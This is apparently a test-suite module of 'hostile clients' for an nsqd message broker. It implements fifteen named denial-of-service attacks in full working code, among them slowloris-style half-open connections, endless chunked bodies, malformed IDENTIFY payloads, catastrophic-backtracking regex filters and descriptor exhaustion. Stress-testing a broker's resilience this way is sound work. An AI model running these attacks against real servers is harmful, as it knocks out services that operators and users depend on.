"""Hostile clients of a broker, as a program: ``python -m tests.campaigns.hostile.clients NAME TCP HTTP``.

The program attacks until its standard input is closed; then it prints how many connections it made and how many bytes
it sent. It uses the standard library alone, so that it starts quickly.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from struct import pack, unpack_from

Address = tuple[str, int]

_COUNTERS = {"connections": 0, "sent": 0}
_PAUSE = 0.01
"""Seconds between two connections of an attack that is refused."""


def connect(address: Address) -> socket.socket:
    """Connect, and count it."""
    sock = socket.create_connection(address, timeout=20)
    _COUNTERS["connections"] += 1
    return sock


def send(sock: socket.socket, data: bytes) -> None:
    """Send bytes, and count them."""
    sock.sendall(data)
    _COUNTERS["sent"] += len(data)


def command(line: str, body: bytes | None = None) -> bytes:
    """Return a command of nsqd's protocol."""
    return line.encode() + b"\n" + (b"" if body is None else pack(">I", len(body)) + body)


def identify(tcp: Address, **members: object) -> socket.socket:
    """Connect to nsqd and send IDENTIFY."""
    sock = connect(tcp)
    send(sock, b"  V2" + command("IDENTIFY", json.dumps(members).encode()))
    sock.recv(65536)
    return sock


def discard(sock: socket.socket) -> None:
    """Read and ignore all replies, in another thread."""

    def read() -> None:
        with suppress(OSError):
            while sock.recv(1 << 20):
                pass

    threading.Thread(target=read, daemon=True).start()


def chunked_bodies(tcp: Address, http: Address) -> None:
    """POST chunked bodies without end to /pub, /mpub and /put of nsqd's HTTP API."""
    for path in ("/pub?topic=target", "/mpub?topic=target", "/config/nsqlookupd_tcp_addresses"):
        with connect(http) as sock:
            head = f"POST {path} HTTP/1.1\r\nHost: {http[0]}:{http[1]}\r\nTransfer-Encoding: chunked\r\n\r\n"
            send(sock, head.encode())
            chunk = b"%x\r\n" % (1 << 20) + bytes(1 << 20) + b"\r\n"
            with suppress(OSError):
                for _ in range(400):
                    send(sock, chunk)


def unread_replies(tcp: Address, http: Address) -> None:
    """Publish without reading a reply."""
    with identify(tcp, client_id="unread") as sock:
        batch = command("PUB target", b"x") * 10_000
        while True:
            send(sock, batch)


def tiny_batches(tcp: Address, http: Address) -> None:
    """Publish batches of a million messages of one byte."""
    batch = pack(">I", 1_000_000) + pack(">Ic", 1, b"x") * 1_000_000
    with identify(tcp, client_id="tiny") as sock:
        while True:
            send(sock, command("MPUB target", batch))
            sock.recv(65536)


def finish_all(sock: socket.socket) -> None:
    """Finish all messages, in another thread."""

    def read() -> None:
        buffer = b""
        with suppress(OSError):
            while data := sock.recv(1 << 20):
                buffer, position, answers = buffer + data, 0, []
                while len(buffer) - position >= 8:
                    size, kind = unpack_from(">II", buffer, position)
                    if len(buffer) - position < 4 + size:
                        break
                    if kind == 2:
                        answers.append(b"FIN " + buffer[position + 18 : position + 34] + b"\n")
                    position += 4 + size
                buffer = buffer[position:]
                send(sock, b"".join(answers))

    threading.Thread(target=read, daemon=True).start()


def drained_batches(tcp: Address, http: Address) -> None:
    """Publish batches of 5 MB with 440,000 messages, while a consumer drains them."""
    batch = pack(">I", 440_000) + pack(">I7s", 7, b"message") * 440_000
    consumer = identify(tcp, client_id="drain")
    send(consumer, command("SUB target default") + b"RDY 2500\n")
    finish_all(consumer)
    with identify(tcp, client_id="tiny") as sock:
        while True:
            send(sock, command("MPUB target", batch))
            sock.recv(65536)


def unread_messages(tcp: Address, http: Address) -> None:
    """Subscribe with a large RDY and read nothing, while another connection publishes."""
    silent = [identify(tcp, client_id=f"silent{number}", extend_support=True) for number in range(20)]
    for number, sock in enumerate(silent):
        send(sock, command(f"SUB target silent{number}") + b"RDY 2500\n")
    with identify(tcp, client_id="publisher") as sock:
        discard(sock)
        batch = command("PUB target", b"x" * 20_000) * 20
        while True:
            send(sock, batch)
            time.sleep(_PAUSE)


def half_open(tcp: Address, http: Address) -> None:
    """Begin commands and requests on many connections, and continue them one byte a second."""
    starts = (
        (tcp, b"  V2" + command("IDENTIFY", b"{}")[:-1]),
        (tcp, b"  V2PUB target\n" + pack(">I", 1 << 20)),
        (tcp, b"  V"),
        (http, b"GET /stats HTTP/1.1\r\nHost: "),
        (http, b"POST /pub?topic=target HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n"),
        (http, b"G"),
    )
    held = []
    for address, start in starts * 100:
        held.append(connect(address))
        send(held[-1], start)
    while True:
        for sock in held:
            with suppress(OSError):
                send(sock, b"a")
        time.sleep(1)


def odd_identify(tcp: Address, http: Address) -> None:
    """Identify with JSON that no client sends."""
    bodies = (
        b"[" * 100_000,
        b'{"a":' * 50_000,
        b'{"client_id":"' + b"x" * 1_000_000 + b'"}',
        b'{"heartbeat_interval":1e999,"msg_timeout":"x","output_buffer_size":[],"desired_tag":{}}',
        b'{"ext_filter":{"type":2,"filter_ext_key":7,"filter_data":' + b"1" * 5000 + b"}}",
        b"{" + b",".join(b'"k%d":1' % number for number in range(50_000)) + b"}",
        b"\xff" * 1000,
    )
    for body in bodies:
        with connect(tcp) as sock, suppress(OSError):
            send(sock, b"  V2" + command("IDENTIFY", body))
            sock.settimeout(1)
            sock.recv(65536)


def many_channels(tcp: Address, http: Address) -> None:
    """Subscribe to a new channel with each connection, and leave."""
    for number in range(1_000_000):
        with identify(tcp, client_id="x", extend_support=True) as sock:
            send(sock, command(f"SUB target c{number}#ephemeral"))
            sock.recv(65536)


def header_filters(tcp: Address, http: Address) -> None:
    """Publish large extend headers, which the filters of ten consumers read."""
    for number in range(10):
        one = {"type": 1, "inverse": False, "filter_ext_key": "nope", "filter_data": "x"}
        consumer = identify(tcp, client_id=f"filter{number}", extend_support=True, ext_filter=one)
        send(consumer, command(f"SUB target filter{number}") + b"RDY 100\n")
        discard(consumer)
    header = json.dumps({f"{number:x}": "1" for number in range(5000)}).encode()
    with identify(tcp, client_id="publisher") as sock:
        discard(sock)
        while True:
            send(sock, command("PUB_EXT target 0", pack(">H", len(header)) + header + b"x"))
            time.sleep(_PAUSE)


def statistics(tcp: Address, http: Address) -> None:
    """Request statistics and metrics without end, on 16 connections."""
    request = "".join(
        f"GET {path} HTTP/1.1\r\nHost: {http[0]}:{http[1]}\r\n\r\n" for path in ("/stats?format=json", "/metrics")
    ).encode()

    def repeat(sock: socket.socket) -> None:
        with suppress(OSError):
            while True:
                send(sock, request)
                time.sleep(_PAUSE)

    for _ in range(16):
        sock = connect(http)
        discard(sock)
        threading.Thread(target=repeat, args=(sock,), daemon=True).start()
    time.sleep(3600)


def full_window(tcp: Address, http: Address) -> None:
    """Keep the read window of one connection full of commands."""
    with identify(tcp, client_id="window") as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
        discard(sock)
        commands = b"NOP\n" * 100_000
        while True:
            send(sock, commands)


def silent_connections(tcp: Address, http: Address) -> None:
    """Hold 2,000 connections that send nothing."""
    held = []
    for _ in range(1000):
        held += [connect(tcp), connect(http)]
    time.sleep(3600)


def long_lines(tcp: Address, http: Address) -> None:
    """Send a line of 16 MB to nsqd's TCP and HTTP sides."""
    for address, start in ((tcp, b"  V2"), (http, b"GET /")):
        with connect(address) as sock, suppress(OSError):
            send(sock, start)
            for _ in range(16):
                send(sock, b"x" * (1 << 20))


def catastrophic_filters(tcp: Address, http: Address) -> None:
    """Filter by expressions that take a backtracking engine exponential time."""
    # type 2 is a regular expression, type 3 a glob
    wanted = [
        {"type": 2, "inverse": False, "filter_ext_key": "k", "filter_data": "(a+)+$"},
        {"type": 2, "inverse": False, "filter_ext_key": "k", "filter_data": "(a|aa)+$"},
        {"type": 3, "inverse": False, "filter_ext_key": "k", "filter_data": "*a" * 30 + "b"},
    ]
    for number, one in enumerate(wanted):
        consumer = identify(tcp, client_id=f"filter{number}", extend_support=True, ext_filter=one)
        send(consumer, command(f"SUB_ADVANCED target filter{number} 0") + command("RDY 100"))
        discard(consumer)
    with identify(tcp, client_id="publisher") as sock:
        discard(sock)
        header = json.dumps({"k": "a" * 2000 + "!"}).encode()
        publish = command("PUB_EXT target 0", pack(">H", len(header)) + header + b"x")
        while True:
            send(sock, publish * 10)
            time.sleep(_PAUSE)


def out_of_descriptors(tcp: Address, http: Address) -> None:
    """Open connections until the broker has no descriptor left, and continue."""
    held = []
    while True:
        with suppress(OSError):
            held.append(socket.create_connection(tcp, timeout=0.2))
            held.append(socket.create_connection(http, timeout=0.2))
            _COUNTERS["connections"] += 2
        del held[:-1500]


ATTACKS: dict[str, Callable[[Address, Address], None]] = {
    "chunked-bodies": chunked_bodies,
    "unread-replies": unread_replies,
    "tiny-batches": tiny_batches,
    "drained-batches": drained_batches,
    "unread-messages": unread_messages,
    "half-open": half_open,
    "odd-identify": odd_identify,
    "many-channels": many_channels,
    "header-filters": header_filters,
    "statistics": statistics,
    "full-window": full_window,
    "silent-connections": silent_connections,
    "long-lines": long_lines,
    "catastrophic-filters": catastrophic_filters,
    "out-of-descriptors": out_of_descriptors,
}


def _address(text: str) -> Address:
    host, _, port = text.rpartition(":")
    return host, int(port)


def main() -> None:
    """Attack until standard input is closed."""
    attack = ATTACKS[sys.argv[1]]
    tcp, http = map(_address, sys.argv[2:4])

    def run() -> None:
        while True:
            with suppress(OSError):
                attack(tcp, http)
            time.sleep(_PAUSE)

    threading.Thread(target=run, daemon=True).start()
    sys.stdin.read()
    sys.stdout.write(json.dumps(_COUNTERS) + "\n")
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    main()
